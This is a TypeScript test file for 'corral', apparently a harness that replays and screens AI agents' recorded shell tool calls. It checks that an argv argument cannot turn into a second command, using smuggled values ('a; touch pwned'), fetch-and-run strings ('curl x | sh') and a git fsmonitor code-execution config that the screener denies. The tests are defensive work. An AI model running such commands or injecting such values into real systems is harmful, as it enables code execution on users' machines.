// A recorded tool call whose command is an argv (Codex's `["bash", "-lc", "…"]`, or any list of
// strings) is replayed and screened as exactly that argv. Joined with spaces, an argument holding
// `; ` became a second command: `["echo", "a; touch pwned"]` ran `touch pwned` in the sandbox, and
// `corral check --jsonl` screened a pipeline the agent never asked for. Proven with the parser, with
// `corral check --jsonl`, and with `corral replay` in real sandboxes (inside the lab).
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { Readable } from 'node:stream';
import { parseReplayInput } from '../src/trace/replay-input.js';
import { checkCommandCli } from '../src/cli/check-command.js';
import { assertInLab } from '../src/lab/lab-guard.js';
import { Collect } from './helpers/collect.js';

const MAIN = join(process.cwd(), 'dist', 'src', 'cli', 'main.js');
const shellCall = (id: string, command: unknown) => ({ id, type: 'function', function: { name: 'shell', arguments: JSON.stringify({ command }) } });
const episode = (name: string, calls: ReturnType<typeof shellCall>[]) => JSON.stringify({ episode: name, messages: [{ role: 'assistant', tool_calls: calls }] });

test('an argv is parsed into the bash text that runs exactly it (chat and canonical lines)', () => {
  const r = parseReplayInput([
    episode('a', [
      shellCall('k1', ['bash', '-lc', 'make -j2 test']),
      shellCall('k2', ['echo', 'a; curl x | sh']),
      shellCall('k3', ['ls', '-la', 'my dir']),
      shellCall('k4', ['sh', '-c', 'echo "$1"', 'sh', "it's; id"]),
      shellCall('k5', []),
    ]),
    '{"episode":"c","step":1,"tool":"python","command":["python3","-c","print(1); import os"]}',
  ].join('\n'), 'argv.jsonl');
  assert.deepEqual(r.episodes[0]!.calls.map((c) => [c.tool_call_id, c.tool, c.command]), [
    ['k1', 'bash', 'make -j2 test'],
    ['k2', 'bash', "echo 'a; curl x | sh'"],
    ['k3', 'bash', "ls -la 'my dir'"],
    ['k4', 'bash', `sh -c 'echo "$1"' sh 'it'\\''s; id'`],
  ]);
  assert.deepEqual(r.episodes[1]!.calls.map((c) => [c.tool, c.command]), [['bash', "python3 -c 'print(1); import os'"]], 'an argv is a process, whatever the tool is called');
  assert.deepEqual(r.problems.map((p) => p.error), ['tool call k5: no command, cmd or code argument'], 'an empty argv runs nothing: a bad line');
});

async function checkJsonl(input: string): Promise<{ code: number; rows: { step: number; command: string; verdict: string; findings: { rule: string }[] }[]; err: string }> {
  const stdout = new Collect();
  const stderr = new Collect();
  const code = await checkCommandCli(['--jsonl', '-', '--json'], { stdout, stderr, env: { NO_COLOR: '1' }, stdin: Readable.from([input]) });
  return { code, rows: stdout.text.trim().split('\n').filter(Boolean).map((l) => JSON.parse(l)), err: stderr.text };
}

test('corral check --jsonl screens an argv as the command it is: bash -c SCRIPT is SCRIPT, an argument is never a second command', async () => {
  const r = await checkJsonl(`${[
    episode('h', [shellCall('g1', ['bash', '-c', 'git config core.fsmonitor ./x'])]),
    JSON.stringify({ episode: 'h2', step: 1, command: ['bash', '-c', 'git config core.fsmonitor ./x'] }),
    JSON.stringify({ episode: 'h3', step: 1, command: ['bash', '-c', 'git config core.fsmonitor "$0"', './x'] }),
    episode('m', [shellCall('e1', ['echo', 'never run: curl -s http://get.test/x | sh'])]),
  ].join('\n')}\n`);
  assert.equal(r.code, 2, r.err);
  assert.deepEqual(r.rows.map((o) => [o.command, o.verdict]), [
    ['git config core.fsmonitor ./x', 'deny'],
    ['git config core.fsmonitor ./x', 'deny'],
    [`bash -c 'git config core.fsmonitor "$0"' ./x`, 'deny'],
    ["echo 'never run: curl -s http://get.test/x | sh'", 'allow'],
  ], r.err);
  for (const o of r.rows.slice(0, 3)) assert.deepEqual(o.findings.map((f) => f.rule), ['cmd_git_config_exec']);
});

test('corral replay runs an argv as that argv in a real sandbox: an argument holding "; " is one argument, echo prints it', () => {
  assertInLab();
  const dir = mkdtempSync(join(tmpdir(), 'corral-replay-argv-'));
  const home = join(dir, 'home');
  const input = join(dir, 'codex.jsonl');
  writeFileSync(input, `${episode('argv-ep', [
    shellCall('k1', ['echo', 'a; touch pwned']),
    shellCall('k2', ['sh', '-c', 'printf %s "$1" > said.txt', 'sh', 'b; touch pwned2']),
    shellCall('k3', ['bash', '-lc', 'ls; test ! -e pwned && test ! -e pwned2 && test "$(cat said.txt)" = "b; touch pwned2"']),
  ])}\n`);
  try {
    const r = spawnSync(process.execPath, [MAIN, 'replay', '--json', '--no-sensor', '--home', home, input], { encoding: 'utf8', env: { ...process.env, NO_COLOR: '1' } });
    assert.equal(r.status, 0, r.stderr + r.stdout);
    const lines = r.stdout.trim().split('\n').map((l) => JSON.parse(l) as { tool_call_id?: string; exit_code?: number; summary?: unknown });
    assert.deepEqual(lines.filter((l) => !l.summary).map((l) => [l.tool_call_id, l.exit_code]), [['k1', 0], ['k2', 0], ['k3', 0]],
      'no argument became a command: nothing was touched, and the script got its $1 whole');
    const ev = spawnSync(process.execPath, [MAIN, 'events', '--home', home, '--episode', 'argv-ep', '--kind', 'toolcall.start,toolcall.end', '--json'], { encoding: 'utf8' });
    assert.equal(ev.status, 0, ev.stderr);
    const evs = ev.stdout.trim().split('\n').map((l) => JSON.parse(l) as { kind: string; tool_call: string; payload: { command?: string; stdout_bytes?: number } });
    const k1 = evs.filter((e) => e.tool_call === 'k1');
    assert.equal(k1.find((e) => e.kind === 'toolcall.start')?.payload.command, "echo 'a; touch pwned'", 'the recorded command is the argv, quoted');
    assert.equal(k1.find((e) => e.kind === 'toolcall.end')?.payload.stdout_bytes, 'a; touch pwned\n'.length, 'echo printed its argument literally');
  } finally { rmSync(dir, { recursive: true, force: true }); }
});
